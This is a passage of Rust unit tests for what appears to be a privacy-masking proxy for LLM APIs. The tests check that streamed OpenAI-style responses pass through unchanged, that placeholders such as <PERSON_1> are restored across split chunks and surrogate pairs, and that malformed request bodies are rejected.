    for (deltas, done, item) in [(thought(false), thought(true), item), (said(false), said(true), message)] {
        let mut events: Vec<String> = deltas.into_iter().chain(done).collect();
        events.push(format!(r#"{{"type":"response.output_item.done","output_index":0,"item":{item}}}"#));
        events.push(format!(r#"{{"type":"response.completed","response":{{"output":[{item}]}}}}"#));
        let sent = sse(&events);
        assert_eq!(streamed(Dialect::OpenAiResponses, &sent), sent);
        let reply = format!(r#"{{"output":[{item}]}}"#);
        assert_eq!(whole(Dialect::OpenAiResponses, &reply), reply);
    }
}

/// A server that cuts between the halves of a surrogate pair ends no stream.
#[test]
fn half_a_pair_passes() {
    let delta = |text: &str| {
        format!(r#"{{"choices":[{{"index":0,"delta":{{"content":"{text}"}},"finish_reason":null}}]}}"#)
    };
    let sent = sse(&[delta(r"Hi \ud83d"), delta(r"\ude00 \n"), delta("<PERS"), delta("ON_1> \u{1f600}")]);
    let out = streamed(Dialect::OpenAiChat, &sent);
    let (halves, rest) = sent.split_at(sent.find(&delta("<PERS")).unwrap());
    assert!(out.starts_with(halves) && out.contains(r#""content":"Zoë Quill 😀""#), "{out} {rest}");
    // Where something of the text must change, what is no character cannot stay.
    let out = streamed(Dialect::OpenAiChat, &sse(&[delta(r"<PERSON_1> \ud83d\ud83d \u00eb")]));
    assert_eq!(said(&out), "Zoë Quill \u{fffd}\u{fffd} ë");
    // What is sent must be read by all in the same way.
    let mut conversation = Conversation::builder().build().unwrap();
    let body = r#"{"messages":[{"role":"user","content":"\ud83d"}]}"#;
    assert_eq!(conversation.mask_chat(Dialect::OpenAiChat, body).unwrap_err().code(), "body_json_invalid");
}
